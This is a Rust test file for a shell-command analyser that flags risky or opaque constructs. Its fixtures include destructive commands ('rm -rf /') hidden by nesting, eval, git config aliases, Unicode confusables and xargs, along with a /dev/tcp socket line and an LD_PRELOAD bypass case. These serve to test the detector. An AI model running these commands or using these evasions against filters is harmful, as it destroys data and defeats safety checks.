    ("su -c \"$cmd\"", FlagKind::DynamicCode, None),
    (
        "ls | xargs -I{} sh -c 'echo {}'",
        FlagKind::DynamicCode,
        None,
    ),
    // git runs configured commands
    (
        "git -c alias.x='!rm -rf /' x",
        FlagKind::GitConfigCommand,
        Some("alias.x='!rm -rf /'"),
    ),
    (
        "git -c core.pager='less -R' log",
        FlagKind::GitConfigCommand,
        Some("core.pager='less -R'"),
    ),
    (
        "git -c core.sshCommand=ssh fetch",
        FlagKind::GitConfigCommand,
        None,
    ),
    (
        "git -c diff.x.textconv=cat diff",
        FlagKind::GitConfigCommand,
        None,
    ),
    (
        "git --config-env=core.pager=PAGER log",
        FlagKind::GitConfigCommand,
        None,
    ),
    ("git -c \"$KV\" log", FlagKind::GitConfigCommand, None),
    // the program depends on run time
    (
        "x=rm; $x -rf /",
        FlagKind::CommandPositionExpansion,
        Some("$x"),
    ),
    (
        "$(echo rm) -rf /",
        FlagKind::CommandPositionExpansion,
        Some("$(echo rm)"),
    ),
    ("`echo rm` -rf /", FlagKind::CommandPositionExpansion, None),
    ("${CMD:-rm} -rf /", FlagKind::CommandPositionExpansion, None),
    (
        "/bin/r? -rf /",
        FlagKind::CommandPositionExpansion,
        Some("/bin/r?"),
    ),
    (
        "sudo $CMD",
        FlagKind::CommandPositionExpansion,
        Some("$CMD"),
    ),
    ("env \"$X\" rm", FlagKind::CommandPositionExpansion, None),
    ("xargs $CMD", FlagKind::CommandPositionExpansion, None),
    // unicode confusables
    ("rм -rf /", FlagKind::UnicodeConfusable, Some("rм")),
    (
        "r\u{200b}m -rf /",
        FlagKind::UnicodeConfusable,
        Some("r\u{200b}m"),
    ),
    ("rm\u{202e} -rf /", FlagKind::UnicodeConfusable, None),
    (
        "rm -r\u{200b}f /",
        FlagKind::UnicodeConfusable,
        Some("-r\u{200b}f"),
    ),
    ("ｒｍ -rf /", FlagKind::UnicodeConfusable, None),
    ("$'\\xff' x", FlagKind::UnicodeConfusable, None),
    // parse errors and unmodelled syntax: fail closed
    ("{rm,-rf,/}", FlagKind::UnsupportedSyntax, None),
    ("echo \"unterminated", FlagKind::ParseError, None),
    ("(ls", FlagKind::ParseError, None),
    (
        "if true; then cat <<EOF & fi\nEOF",
        FlagKind::ParseError,
        None,
    ),
    // `<>` is read as a write and a read of its target, and never allowed.
    (
        "exec 3<>/dev/tcp/x.example/80",
        FlagKind::UnsupportedSyntax,
        None,
    ),
    ("coproc { ls; }", FlagKind::UnsupportedSyntax, None),
    ("coproc ( ls )", FlagKind::UnsupportedSyntax, None),
    ("fi", FlagKind::UnsupportedSyntax, None),
    ("{ ls; } > f x", FlagKind::ParseError, Some("x")),
    // structure
    ("ls &", FlagKind::Background, Some("ls &")),
    ("ls | wc -l", FlagKind::Pipeline, Some("ls | wc -l")),
    ("ls && pwd", FlagKind::Chaining, Some("pwd")),
    (
        "cat <<EOF; rm -rf /\nEOF",
        FlagKind::Chaining,
        Some("rm -rf /"),
    ),
    ("cat <<EOF & ls\nEOF", FlagKind::Background, None),
    ("ls; pwd", FlagKind::Chaining, Some("pwd")),
    ("(ls)", FlagKind::Subshell, Some("(ls)")),
    (
        "f() { :; }",
        FlagKind::FunctionDefinition,
        Some("f() { :; }"),
    ),
    ("ls *.rs", FlagKind::Glob, Some("*.rs")),
    ("echo {a,b}", FlagKind::BraceExpansion, Some("{a,b}")),
    ("echo $'x'", FlagKind::AnsiCQuoting, Some("$'x'")),
    ("r\\\nm x", FlagKind::LineContinuation, Some("\\\n")),
    ("cat <<EOF\nx\nEOF", FlagKind::Heredoc, None),
    ("cat <<< x", FlagKind::Herestring, Some("<<< x")),
    ("ls > f", FlagKind::Redirection, Some("> f")),
    (
        "sudo >/dev/null rm",
        FlagKind::Redirection,
        Some(">/dev/null"),
    ),
    (
        "echo $((1+2))",
        FlagKind::ArithmeticExpansion,
        Some("$((1+2))"),
    ),
    ("echo $HOME", FlagKind::ParameterExpansion, Some("$HOME")),
    ("echo $(id)", FlagKind::CommandSubstitution, Some("$(id)")),
    ("cat <(ls)", FlagKind::ProcessSubstitution, Some("<(ls)")),
    ("source ~/.bashrc", FlagKind::Source, Some("source")),
    (". ./env.sh", FlagKind::Source, Some(".")),
    ("eval ls", FlagKind::Eval, Some("eval")),
    ("bash -c ls", FlagKind::NestedShell, Some("ls")),
    ("echo ls | sh", FlagKind::NestedShell, Some("sh")),
    // `IFS=/ read a b` only sets how `read` splits the line: not flagged (tests/corpus).
    ("IFS=/ cat a b", FlagKind::IfsManipulation, Some("IFS=/")),
    ("IFS=x; ls", FlagKind::IfsManipulation, None),
    // A runner's option its closed table does not prove: an abbreviation, an unknown option.
    (
        "start-stop-daemon --start --exe /bin/true",
        FlagKind::UnsupportedSyntax,
        Some("--exe"),
    ),
    (
        "start-stop-daemon --start --zz --exec /bin/true",
        FlagKind::UnsupportedSyntax,
        Some("--zz"),
    ),
    (
        "ed --pro x '!id'",
        FlagKind::UnsupportedSyntax,
        Some("--pro"),
    ),
    (
        "gdb -batch --eval-comm bt ./a.out",
        FlagKind::UnsupportedSyntax,
        Some("--eval-comm"),
    ),
    (
        "gdb -batch -zz ./a.out",
        FlagKind::UnsupportedSyntax,
        Some("-zz"),
    ),
    (
        "sqlite3 -head app.db .tables",
        FlagKind::UnsupportedSyntax,
        Some("-head"),
    ),
    (
        "sqlite3 app.db --zz .tables",
        FlagKind::UnsupportedSyntax,
        Some("--zz"),
    ),
    (
        "start-stop-daemon --start --exec \"$P\"",
        FlagKind::CommandPositionExpansion,
        Some("\"$P\""),
    ),
];

#[test]
fn flags_are_raised() {
    let mut failures = Vec::new();
    for (cmd, kind, span) in FLAGS {
        let a = run(cmd);
        let found: Vec<&str> = a.flags_of(*kind).map(|f| text(cmd, f.span)).collect();
        if found.is_empty() {
            failures.push(format!("{cmd:?}: no {} flag{}", kind.name(), summary(&a)));
        } else if let Some(want) = span
            && !found.contains(want)
        {
            failures.push(format!(
                "{cmd:?}: {} flag at {found:?}, want {want:?}",
                kind.name()
            ));
        }
        failures.extend(span_problems(&a));
    }
    report(&failures);
}

/// Plain commands raise none of the flags that mean shclass could not see what runs.
#[test]
fn plain_commands_are_not_opaque() {
    let mut failures = Vec::new();
    for cmd in [
        "ls -la",
        "git status",
        "cargo test --all-targets -- --nocapture",
        "grep -rn 'fn main' src/ | head -20",
        "echo \"hello $USER\" > out.txt",
        "for f in *.rs; do wc -l \"$f\"; done",
        "cat <<'EOF' > notes.md\n# Notes\n$HOME stays literal\nEOF",
        "cat <<EOF > out.txt\nhello\nEOF",
        "find . -name '*.rs' -exec grep -l TODO {} +",
        "sudo -u www-data ls /var/www",
        "bash -c 'cd /tmp && ls'",
        "git -C repo log --oneline -5",
        "echo $(< list.txt)",
        "declare -a arr=(1 2)",
        "if [ -f a ]; then cat a; else echo none; fi",
        "echo héllo wörld 日本",
    ] {
        let a = run(cmd);
        let opaque: Vec<_> = a.flags.iter().filter(|f| f.kind.is_opaque()).collect();
        if !opaque.is_empty() {
            failures.push(format!("{cmd:?}: opaque flags{}", summary(&a)));
        }
        if a.units.is_empty() {
            failures.push(format!("{cmd:?}: no units"));
        }
        failures.extend(span_problems(&a));
    }
    report(&failures);
}

/// Context and via are what the unit sits inside.
#[test]
fn context_and_via() {
    type Case = (
        &'static str,
        &'static str,
        &'static [&'static str],
        &'static [Context],
    );
    let cases: &[Case] = &[
        ("ls && rm -rf /", "rm", &[], &[]),
        ("echo \"$(rm -rf /)\"", "rm", &[], &[Context::Substitution]),
        (
            "cat <(rm -rf /)",
            "rm",
            &[],
            &[Context::ProcessSubstitution],
        ),
        (
            "FOO=1 nohup timeout -s KILL 5 rm -rf / &",
            "rm",
            &["nohup", "timeout"],
            &[Context::Background],
        ),
        ("sudo -u root env -i rm -rf /", "rm", &["sudo", "env"], &[]),
        (
            "bash -c 'ls; rm -rf /'",
            "rm",
            &["bash"],
            &[Context::NestedShell],
        ),
        ("eval rm -rf /", "rm", &["eval"], &[Context::Eval]),
        (
            "cat <<'EOF' | bash\nrm -rf /\nEOF",
            "rm",
            &["bash"],
            &[Context::Pipeline, Context::StdinCode],
        ),
        // a wrapper before a shell that reads its code on standard input stays in `via`
        (
            "sudo bash <<'EOF'\nrm -rf /\nEOF",
            "rm",
            &["sudo", "bash"],
            &[Context::StdinCode],
        ),
        (
            "env bash <<< 'rm -rf /'",
            "rm",
            &["env", "bash"],
            &[Context::StdinCode],
        ),
        (
            "timeout 5 sh <(echo 'rm -rf /')",
            "rm",
            &["timeout", "sh"],
            &[Context::StdinCode],
        ),
        ("f() { rm -rf /; }", "rm", &[], &[Context::Function]),
        ("if rm -rf /; then :; fi", "rm", &[], &[Context::Condition]),
        ("(rm -rf /)", "rm", &[], &[Context::Subshell]),
        ("while :; do rm -rf /; done", "rm", &[], &[Context::Loop]),
        ("case x in x) rm -rf /;; esac", "rm", &[], &[Context::Case]),
        (
            "echo / | xargs rm -rf",
            "rm",
            &["xargs"],
            &[Context::Pipeline, Context::Xargs],
        ),
        (
            "find . -exec rm -rf / \\;",
            "rm",
            &["find"],
            &[Context::FindExec],
        ),
        (
            "git -c core.pager='rm -rf /' log",
            "rm",
            &["git"],
            &[Context::ConfigCommand],
        ),
        (
            "ls | sh -c \"cd /tmp && rm -rf /\"",
            "rm",
            &["sh"],
            &[Context::Pipeline, Context::NestedShell],
        ),
        ("coproc NAME { rm -rf /; }", "rm", &["coproc"], &[]),
        // `rustup run CHANNEL CMD` runs CMD; a proxy's `+CHANNEL` picks a toolchain only
        ("rustup run stable rm -rf /", "rm", &["rustup"], &[]),
        (
            "sudo rustup run nightly-2024-05-01 rm -rf /",
            "rm",
            &["sudo", "rustup"],
            &[],
        ),
        ("cargo +nightly fmt --check", "cargo", &[], &[]),
    ];
    let mut failures = Vec::new();
    for (cmd, program, via, context) in cases {
        let a = run(cmd);
        let hit = a.units.iter().any(|u| {
            u.program.as_deref() == Some(*program) && u.via == *via && u.context == *context
        });
        if !hit {
            failures.push(format!(
                "{cmd:?}: no {program} unit via {via:?} in {context:?}{}",
                summary(&a)
            ));
        }
    }
    report(&failures);
}

#[test]
fn xargs_and_parallel_append_arguments() {
    for cmd in ["echo / | xargs rm -rf", "parallel rm -rf ::: /"] {
        let a = run(cmd);
        let rm: Vec<_> = a
            .units
            .iter()
            .filter(|u| u.program.as_deref() == Some("rm"))
            .collect();
        assert!(!rm.is_empty(), "{cmd:?}: no rm{}", summary(&a));
        assert!(
            rm.iter().any(|u| u.appended_args),
            "{cmd:?}: appended_args not set"
        );
    }
    // What xargs reads is static here: the command it builds is read as well (resolved).
    let a = run("echo / | xargs rm -rf");
    assert!(
        a.units.iter().any(|u| u.program.as_deref() == Some("rm")
            && !u.appended_args
            && u.context.contains(&Context::Resolved)),
        "{}",
        summary(&a)
    );
    // The words xargs reads go to sh as $0…, not into its code.
    let a = run("xargs sh -c 'rm -rf /'");
    let rm = a.units.iter().find(|u| u.program.as_deref() == Some("rm"));
    assert!(rm.is_some_and(|u| !u.appended_args), "{}", summary(&a));
}

#[test]
fn assignments_and_redirects_apply() {
    let a = run("FOO=1 env BAR=2 rm -rf / > log 2>&1");
    let rm = &a.units[0];
    let names: Vec<(&str, Option<&str>)> = rm
        .assignments
        .iter()
        .map(|x| (x.name.as_str(), x.value.as_deref()))
        .collect();
    assert_eq!(names, [("FOO", Some("1")), ("BAR", Some("2"))]);
    let redirects: Vec<(&str, Option<&str>)> = rm
        .redirects
        .iter()
        .map(|r| (r.op.as_str(), r.target.as_deref()))
        .collect();
    assert_eq!(redirects, [(">", Some("log")), (">&", Some("1"))]);

    // Exported earlier on the line.
    let a = run("export X=1; Y=$(id); ls");
    let ls = a
        .units
        .iter()
        .find(|u| u.program.as_deref() == Some("ls"))
        .unwrap_or_else(|| panic!("no ls{}", summary(&a)));
    let inherited: Vec<(&str, Option<&str>, bool)> = ls
        .assignments
        .iter()
        .map(|x| (x.name.as_str(), x.value.as_deref(), x.inherited))
        .collect();
    assert_eq!(inherited, [("X", Some("1"), true), ("Y", None, true)]);

    // bypass: an exported variable (LD_PRELOAD) set before the command, not as its prefix
    let a = run("export LD_PRELOAD=/tmp/x.so; declare -x A=b; ls");
    let ls = a
        .units
        .iter()
        .find(|u| u.program.as_deref() == Some("ls"))
        .unwrap_or_else(|| panic!("no ls{}", summary(&a)));
    let names: Vec<&str> = ls.assignments.iter().map(|x| x.name.as_str()).collect();
    assert_eq!(names, ["LD_PRELOAD", "A"]);

    // The redirect of a compound command applies to what is inside.
    let a = run("{ rm -rf /; } > /dev/null");
    assert_eq!(a.units[0].redirects[0].target.as_deref(), Some("/dev/null"));
}

// --- Limits ------------------------------------------------------------------------------------

/// `bash -c '…'` nested `levels` deep around `rm -rf /`, quoting each level with `$'…'`.
fn nested_bash(levels: usize) -> String {
    let mut code = "rm -rf /".to_owned();
    for _ in 0..levels {
        let escaped = code.replace('\\', "\\\\").replace('\'', "\\'");
        code = format!("bash -c $'{escaped}'");
    }
    code
}

#[test]
fn nesting_within_the_limit_is_analysed() {
    let limits = Limits::default();
    let cmd = nested_bash(limits.max_nesting);
    let a = analyze(&cmd, &limits);
    let rm = a
        .units
        .iter()
        .find(|u| u.program.as_deref() == Some("rm"))
        .unwrap_or_else(|| panic!("no rm in {cmd:?}{}", summary(&a)));
    assert_eq!(rm.depth, limits.max_nesting);
    assert_eq!(text(&cmd, rm.span), "rm -rf /");
    assert_eq!(a.flags_of(FlagKind::TooDeep).count(), 0);
    assert!(span_problems(&a).is_empty(), "{:?}", span_problems(&a));
}

// bypass: nesting deeper than the analyser follows
#[test]
fn nesting_beyond_the_limit_is_too_deep() {
    let limits = Limits::default();
    for cmd in [
        nested_bash(limits.max_nesting + 1),
        format!("{}rm -rf /", "eval ".repeat(limits.max_nesting + 2)),
    ] {
        let a = analyze(&cmd, &limits);
        assert!(
            a.flags_of(FlagKind::TooDeep).count() > 0,
            "{cmd:?}: no too-deep flag{}",
            summary(&a)
        );
        assert!(a.is_opaque());
        assert!(span_problems(&a).is_empty(), "{:?}", span_problems(&a));
    }
}

#[test]
fn small_nesting_limit_is_honoured() {
    let mut limits = Limits::default();
    limits.max_nesting = 1;
    let a = analyze("bash -c \"bash -c 'rm -rf /'\"", &limits);
    assert!(a.flags_of(FlagKind::TooDeep).count() > 0, "{}", summary(&a));
    assert!(!a.units.iter().any(|u| u.program.as_deref() == Some("rm")));
}

/// Hostile nesting of every kind ends in a flag, never in a stack overflow: analysed on a thread
/// with a 2 MiB stack (the default for spawned threads), which must suffice even in debug builds.
#[test]
fn deep_syntax_trees_are_too_deep_not_a_crash() {
    let inputs = vec![
        format!("{}rm -rf /{}", "(".repeat(1000), ")".repeat(1000)),
        format!("{}rm -rf /{}", "$(".repeat(500), ")".repeat(500)),
        format!("echo {}x{}", "\"$(echo ".repeat(300), ")\"".repeat(300)),
        format!("echo {}1{}", "$((".repeat(300), "))".repeat(300)),
        format!("echo {}x{}", "${a:-".repeat(300), "}".repeat(300)),
        format!("{}rm -rf /{}", "{ ls; ".repeat(400), "; }".repeat(400)),
        format!("{}ls{}", "if true; then ".repeat(300), "; fi".repeat(300)),
        format!("{}ls{}", "cat <(".repeat(300), ")".repeat(300)),
        format!("[[ {}1{} ]]", "( ".repeat(300), " )".repeat(300)),
        format!("a=({}1{})", "$(b=(".repeat(300), "))".repeat(300)),
    ];
    // Long but flat: no limit is hit, and nothing overflows either. An `&&` chain is flat too
    // (tree-sitter nests it, the lowering does not); a pipeline stays under max_pipeline_stages.
    // Redundant grouping (a group or subshell whose only statement is another) costs no
    // depth: the command inside is read.
    let redundant = [
        format!("{}rm -rf /{}", "{ ".repeat(400), "; }".repeat(400)),
        format!("{}rm -rf /{}", "( ".repeat(400), " )".repeat(400)),
        format!("{}rm -rf /{}", "( { ".repeat(200), "; } )".repeat(200)),
    ];
    let flat = [
        "a | ".repeat(900) + "b",
        "a; ".repeat(3000),
        "a && ".repeat(3000) + "b",
    ];
    let worker = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || {
            let limits = Limits::default();
            let mut failures = Vec::new();
            for cmd in &inputs {
                let a = analyze(cmd, &limits);
                if a.flags_of(FlagKind::TooDeep).next().is_none() {
                    failures.push(format!("{}…: no too-deep flag", &cmd[..20]));
                }
                failures.extend(span_problems(&a));
            }
            for cmd in &redundant {
                let a = analyze(cmd, &limits);
                let rm: Vec<_> = a
                    .units
                    .iter()
                    .filter(|u| u.program.as_deref() == Some("rm"))
                    .collect();
                if rm.len() != 1 || a.flags_of(FlagKind::TooDeep).next().is_some() {
                    failures.push(format!("{}…: the command inside is not read", &cmd[..20]));
                }
                failures.extend(span_problems(&a));
            }
            for cmd in &flat {
                let a = analyze(cmd, &limits);
                if a.units.len() < 900 || a.is_opaque() {
                    failures.push(format!("{}…: {} units", &cmd[..20], a.units.len()));
                }
                failures.extend(span_problems(&a));
            }
            failures
        })
        .unwrap_or_else(|e| panic!("spawn: {e}"));
    let failures = worker
        .join()
        .unwrap_or_else(|_| panic!("analysis panicked"));
    report(&failures);
}

#[test]
fn long_inputs_are_too_long() {
    let mut limits = Limits::default();
    limits.max_input_bytes = 100;
    let a = analyze(&format!("echo {}", "x".repeat(200)), &limits);
    assert!(a.flags_of(FlagKind::TooLong).count() > 0);
    assert!(a.is_opaque());

    let mut limits = Limits::default();
    limits.max_units = 5;
    let a = analyze(&"ls; ".repeat(20), &limits);
    assert_eq!(a.units.len(), 5);
    assert!(a.flags_of(FlagKind::TooLong).count() > 0);
}

// --- Spans ---------------------------------------------------------------------------------------

/// Inputs full of multi-byte characters, escapes and nesting: every span stays on char
/// boundaries of the original input.
#[test]
fn spans_are_on_char_boundaries() {
    let mut failures = Vec::new();
    let inputs = [
        "echo héllo; rm -rf /",
        "bash -c 'echo héllo; rm -rf /'",
        "bash -c \"echo \\\"日本\\\" && rm -rf /\"",
        "bash -c $'echo \\u65e5\\u672c; rm -rf /'",
        "bash -c $'echo \\xc3\\xa9; rm -rf /'",
        "echo -e 'é\\nrm -rf /' | sh",
        "printf 'ü' | sh",
        "cat <<'EOF' | bash\nécho ü\nrm -rf /\nEOF",
        "cat <<EOF | sh\n$(echo ü) 日本\nEOF",
        "git -c alias.ü='!rm -rf /' ü",
        "eval \"echo ö\" rm",
        "{é,ö} x",
        "r\u{200b}m -rf /",
        "rm -rf / # ünïcödé comment",
        "echo \"日本\n語\" | bash",
        "find . -name 'ü*' -exec rm {} \\;",
        "watch 'echo 🦀; rm -rf /'",
        "sudo -u ü rm -rf /",
        "x=ü; $x",
        "a[ü]=$(rm -rf /)",
    ];
    for cmd in inputs {
        failures.extend(span_problems(&run(cmd)));
    }
    for (cmd, _) in RM_RF_ROOT {
        failures.extend(span_problems(&run(cmd)));
    }
    report(&failures);
}

#[test]
fn options_that_run_nothing_add_no_unit() {
    // The harmless twins of the command-valued options: one unit, the program itself.
    let mut failures = Vec::new();
    for cmd in [
        "tar -tf a.tar",
        "tar -cf a.tar --checkpoint=10 --checkpoint-action=dot src",
        "tar -czf a.tgz --to-stdout src",
        "zip -T z.zip src",
        "ssh -o Port=2222 -o StrictHostKeyChecking=no host",
        "ssh -o 'ProxyJump bastion' host",
        "compgen -c git",
        "git clone https://example.com/x.git",
        "make -C src -j4 all",
        "make -f build.mk all",
        "sed -n 's/a/b/p' notes.txt",
    ] {
        let a = run(cmd);
        if a.units.len() != 1 {
            failures.push(format!("{cmd:?}: expected one unit{}", summary(&a)));
        }
    }
    report(&failures);
}
